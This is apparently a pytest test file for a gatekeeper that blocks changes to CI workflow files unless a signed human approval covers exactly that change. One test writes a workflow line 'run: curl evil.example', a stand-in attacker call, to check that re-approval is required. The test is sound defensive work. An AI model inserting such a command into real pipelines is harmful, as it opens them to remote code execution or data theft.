"""Changes of CI files: refused, unless an approval rule names the class ci, and a person says yes to exactly this change."""

from __future__ import annotations

from pathlib import Path

import pytest
from msgspec.structs import replace

from gatewright.contracts.vocabulary import Executor, TimeoutRetry
from gatewright.evidence.signing import keys
from gatewright.evidence.verification.verify import verify
from gatewright.rules.approvals import decision_on, pending
from gatewright.run.state import Run
from tests.attacks.people import LANDING, Inbox, open_inbox, signed
from tests.attacks.test_approval_grants import bring, grant_on
from tests.attacks.test_approvals import refused
from tests.attacks.whole_gatekeeper import RUN
from tests.gatekeeper.publishing import HandClock
from tests.git.repositories import MakeRepository

WORKFLOW = ".github/workflows/test.yml"
FILES = {WORKFLOW: b"on: push\n", "README.md": b"text\n", "requirements.txt": b"a==1\n"}
NEW: dict[str, bytes | None] = {WORKFLOW: b"on: [push, pull_request]\n"}
OPEN = (".github", ".gitlab-ci.yml", "README.md", "requirements.txt")
CI = LANDING | {"name": "pipeline", "reason": "protected_class", "classes": ["ci"]}
#: Rules that ask about protected paths, or about the landing, and do not name the class.
OTHERS = {
    "none": (),
    "landing": (LANDING,),
    "another class": (CI | {"classes": ["dependencies"]},),
    "all classes": (CI | {"classes": []},),
    "another repository": (CI | {"repositories": ["https://git.example.org/other.git"]},),
}


@pytest.fixture
def clock() -> HandClock:
    return HandClock()


async def worked(inbox: Inbox, files: dict[str, bytes | None], **changes: object) -> Run:
    await inbox.submit(allowed_paths=OPEN, **changes)
    return await inbox.work(files)


@pytest.mark.parametrize("rules", OTHERS.values(), ids=OTHERS.keys())
async def test_a_change_of_ci_files_without_a_rule_is_refused(
    rules: tuple[dict[str, object], ...], make_repository: MakeRepository, tmp_path: Path, clock: HandClock
) -> None:
    async with open_inbox(make_repository(files=FILES), tmp_path, *rules, clock=clock) as inbox:
        await inbox.submit(allowed_paths=OPEN)
        await inbox.gatekeeper.work(inbox.gatekeeper.patch(NEW))
        run = await inbox.run()
        assert run.failure is not None
        assert (run.failure.code, inbox.gatekeeper.nothing_landed()) == ("path_protected", True)
        (report,) = await inbox.gatekeeper.reports("diff")
        (violation,) = report.violations
        assert (violation.rule, violation.path) == ("protected_paths.ci", WORKFLOW)
        assert "approval_rules.json" in violation.detail


@pytest.mark.parametrize(
    "files",
    [NEW, {WORKFLOW: None}, {".gitlab-ci.yml": b"a: b\n"}, {**NEW, "README.md": b"another text\n"}],
    ids=["changed", "deleted", "added", "with a document"],
)
async def test_a_change_of_ci_files_parks_and_lands_by_a_signed_yes(
    files: dict[str, bytes | None], make_repository: MakeRepository, tmp_path: Path, clock: HandClock
) -> None:
    async with open_inbox(make_repository(files=FILES), tmp_path, CI, clock=clock) as inbox:
        run = await worked(inbox, files)
        assert (run.parked, inbox.gatekeeper.nothing_landed()) == (True, True), run.failure
        request = await inbox.asked()
        assert (request.stage, request.rule) == ("candidate", "pipeline")
        assert request.why.startswith("ci: .git")
        assert run.candidate is not None
        assert request.candidate_tree == run.candidate.tree
        await inbox.decide(signed(await inbox.said()))
        run = await inbox.run()
        assert (run.status, inbox.gatekeeper.nothing_landed()) == ("SUCCESS", False)
        found = verify(tmp_path / "runs" / RUN, [keys.load(tmp_path / "key.pem").public])
        assert (found.findings, len(found.approved)) == ((), 1)


async def test_a_change_beside_ci_files_asks_no_person(
    make_repository: MakeRepository, tmp_path: Path, clock: HandClock
) -> None:
    async with open_inbox(make_repository(files=FILES), tmp_path, CI, clock=clock) as inbox:
        run = await worked(inbox, {"README.md": b"another text\n"})
        assert (run.status, run.approvals) == ("SUCCESS", {})


async def test_a_yes_to_another_tree_does_not_count(make_repository: MakeRepository, tmp_path: Path, clock: HandClock) -> None:
    async with open_inbox(make_repository(files=FILES), tmp_path, CI, clock=clock) as inbox:
        await worked(inbox, NEW)
        other = replace(await inbox.said(), candidate_tree="f" * 40)
        assert await refused(inbox, signed(other)) == "approval_other_subject"


async def test_a_yes_does_not_cover_the_change_that_is_made_anew(
    make_repository: MakeRepository, tmp_path: Path, clock: HandClock
) -> None:
    """One person approves the CI files, another sends the change back: the next change is asked about anew."""
    rules = (CI, LANDING | {"approvers": ["ben"], "on_reject": "repair"})
    async with open_inbox(make_repository(files=FILES), tmp_path, *rules, clock=clock) as inbox:
        retry = TimeoutRetry(timeout_sec=60, max_retries=1, retry_backoff_sec=0)
        await worked(inbox, NEW, timeout_retry=retry, executor=Executor(kind="agent", agent="codex"))
        by_rule = {each.request.rule: each.request for each in pending(await inbox.run())}
        now = (await inbox.said()).decided_at
        await inbox.decide(signed(decision_on(by_rule["pipeline"], verdict="approve", person="ana", decided_at=now)))
        words = {"verdict": "reject", "person": "ben", "decided_at": now, "comment": "say it otherwise"}
        await inbox.decide(signed(decision_on(by_rule["landing"], **words), "ben"))
        run = await inbox.run()
        assert (run.state, run.attempt) == ("S2", 2), run.failure
        run = await inbox.work({WORKFLOW: b"on: push\nrun: curl evil.example\n"})
        assert (run.parked, inbox.gatekeeper.nothing_landed()) == (True, True)
        assert "pipeline" in {each.request.rule for each in pending(run)}


async def test_who_ordered_the_run_does_not_approve_its_ci_files(
    make_repository: MakeRepository, tmp_path: Path, clock: HandClock
) -> None:
    async with open_inbox(make_repository(files=FILES), tmp_path, CI, clock=clock) as inbox:
        await worked(inbox, NEW, ordered_by=("ben@example.org",))
        assert await refused(inbox, signed(await inbox.said(person="ben"), "ben")) == "approval_of_own_run"


async def test_no_grant_in_advance_covers_ci_files(make_repository: MakeRepository, tmp_path: Path, clock: HandClock) -> None:
    """The rule takes grants, for dependencies: a change that also touches the pipeline still asks."""
    rule = CI | {"classes": ["ci", "dependencies"], "grants": {"within_seconds": 8 * 3600, "uses": 5}}
    async with open_inbox(make_repository(files=FILES), tmp_path, rule, clock=clock) as inbox:
        fields = {"rule": "pipeline", "reason": "protected_class", "classes": ["dependencies"]}
        await bring(inbox, grant_on(inbox, **fields, paths=[".github/", "requirements.txt"]))
        run = await worked(inbox, NEW)
        assert (run.parked, inbox.gatekeeper.nothing_landed()) == (True, True)


async def test_a_bundle_without_the_decision_does_not_verify(
    make_repository: MakeRepository, tmp_path: Path, clock: HandClock
) -> None:
    async with open_inbox(make_repository(files=FILES), tmp_path, CI, clock=clock) as inbox:
        await worked(inbox, NEW)
        await inbox.decide(signed(await inbox.said()))
    bundle, key = tmp_path / "runs" / RUN, keys.load(tmp_path / "key.pem").public
    (decision,) = (bundle / "approvals").rglob("decision-001.json")
    decision.unlink()
    assert verify(bundle, [key]).findings


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"risk": "low", "autopilot": True}, "cannot approve by itself"),
        ({"approvers": ["eve"]}, "has no such person"),
    ],
)
async def test_a_rule_that_would_open_ci_files_without_a_person_is_refused(
    change: dict[str, object], words: str, make_repository: MakeRepository, tmp_path: Path, clock: HandClock
) -> None:
    with pytest.raises(Exception, match=words):
        async with open_inbox(make_repository(files=FILES), tmp_path, CI | change, clock=clock):
            pass
